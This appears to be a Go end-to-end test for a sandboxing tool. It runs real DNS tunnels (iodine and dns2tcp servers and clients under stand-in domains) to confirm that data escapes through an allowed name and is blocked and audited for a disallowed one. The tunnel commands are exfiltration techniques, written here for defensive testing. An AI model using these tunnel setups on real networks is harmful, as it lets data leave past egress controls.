package e2e

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"berth.dev/internal/audit"
)

// ifconfig does with netlink what iodine asks the old tool for, whose calls a
// guest's kernel does not have.
const ifconfig = `#!/bin/sh
case $2 in
mtu) ip link set "$1" mtu "$3" || true ;;
*) ip addr add "$2/24" dev "$1" && ip link set "$1" up ;;
esac
`

// TestAdversaryDNSTunnels: real tunnels through questions. One for a name that
// is allowed carries data as any other way to an allowed host does, if it can do
// without the case of letters, which the resolver does not keep; one for a name
// that is not allowed gets no question out.
func TestAdversaryDNSTunnels(t *testing.T) {
	each(t, func(t *testing.T, u *user) {
		w := newWorld(t, u)
		w.start(t, "Listening to dns for domain iodine.example", have(t, "iodined"),
			"-f", "-c", "-P", "secret", "-l", "127.0.0.1", "-p", fmt.Sprint(tunnels["iodine.example."]), "10.88.0.1/24", "iodine.example")
		conf := filepath.Join(w.dir, "dns2tcpd.conf")
		text := fmt.Sprintf("listen = 127.0.0.1\nport = %d\nuser = root\nchroot = /\npid_file = /dev/null\ndomain = dns2tcp.example\nresources = web:127.0.0.1:%d\n",
			tunnels["dns2tcp.example."], onlyLoopbackPort)
		if err := os.WriteFile(conf, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		w.start(t, fmt.Sprintf("Listening on 127.0.0.1:%d", tunnels["dns2tcp.example."]), have(t, "dns2tcpd"), "-F", "-d", "1", "-f", conf)

		open, closed := w.capture(t, "open"), w.capture(t, "balanced")
		for _, c := range []*captive{open, closed} {
			for _, name := range []string{"iodine", "dns2tcpc"} {
				if out, err := exec.Command("cp", "-L", have(t, name), filepath.Join(c.ws, name)).CombinedOutput(); err != nil {
					t.Fatalf("%v: %s", err, out)
				}
			}
			if err := os.WriteFile(filepath.Join(c.ws, "ifconfig"), []byte(ifconfig), 0o755); err != nil {
				t.Fatal(err)
			}
			if r := c.exec(t, true, "cp", filepath.Join(c.ws, "ifconfig"), "/usr/sbin/"); r.code != 0 {
				t.Fatalf("%+v", r)
			}
		}
		for _, tunnel := range []struct {
			name, ready, url string
			direct           bool
			client           []string
		}{
			// Both of its ends on one machine would not need the tunnel.
			{"iodine", "Connection setup complete", "http://10.88.0.1/", false, []string{"iodine", "-f", "-r", "-P", "secret", "iodine.example"}},
			{"dns2tcp", "Listening on port", "http://127.0.0.1:8888/", true, []string{"dns2tcpc", "-d", "1", "-c", "-z", "dns2tcp.example", "-r", "web", "-l", "8888"}},
		} {
			t.Run(tunnel.name, func(t *testing.T) {
				run := func(c *captive, bound string) result {
					tunnel.client[0] = filepath.Join(c.ws, filepath.Base(tunnel.client[0]))
					cmd := append([]string{"attacker", "tunnel", bound, tunnel.ready, tunnel.url}, tunnel.client...)
					if tunnel.direct && c == open {
						return w.unguarded(t, cmd)
					}
					return c.exec(t, true, cmd...)
				}
				if r := run(open, "60s"); r.code != 0 || !strings.Contains(r.out, secret) {
					t.Fatalf("it does not work where its name is allowed: %+v", r)
				}
				questions, last := w.count(tunnel.name+".example."), closed.last(t)
				if r := run(closed, "5s"); r.code == 0 || strings.Contains(r.out, secret) {
					t.Errorf("it works in a sandbox: %+v", r)
				}
				if n := w.count(tunnel.name + ".example."); n != questions {
					t.Errorf("%d of its questions went out", n-questions)
				}
				closed.line(t, last, func(e audit.Event) bool {
					return e.Kind == audit.DNS && e.Verdict == audit.Deny && strings.HasSuffix(e.Name, tunnel.name+".example")
				})
			})
		}
	})
}

// start runs a server in the world until the test ends; it is ready when it has
// said so.
func (w *world) start(t *testing.T, ready, path string, args ...string) {
	t.Helper()
	ctx, stop := context.WithCancel(context.Background())
	cmd := exec.CommandContext(ctx, path, args...)
	cmd.Dir = w.dir
	untilReady(t, w.enter(cmd, true), stop, ready)
}

// untilReady starts a program, returns when it has said something, and ends it,
// by stop, with the test.
func untilReady(t *testing.T, cmd *exec.Cmd, stop context.CancelFunc, ready string) {
	t.Helper()
	r, pipe := io.Pipe()
	cmd.Stdout, cmd.Stderr = pipe, pipe
	if err := cmd.Start(); err != nil {
		stop()
		t.Fatal(err)
	}
	ended := make(chan struct{})
	go func() {
		_ = pipe.CloseWithError(errors.Join(cmd.Wait(), io.EOF))
		close(ended)
	}()
	t.Cleanup(func() {
		stop()
		<-ended
	})
	late := time.AfterFunc(patience, stop)
	defer late.Stop()
	var said strings.Builder
	for lines := bufio.NewReader(r); ; {
		line, err := lines.ReadString('\n')
		said.WriteString(line)
		if strings.Contains(line, ready) {
			go func() { _, _ = io.Copy(io.Discard, lines) }()
			return
		}
		if err != nil {
			t.Fatalf("%s: %v\n%s", strings.Join(cmd.Args, " "), err, said.String())
		}
	}
}
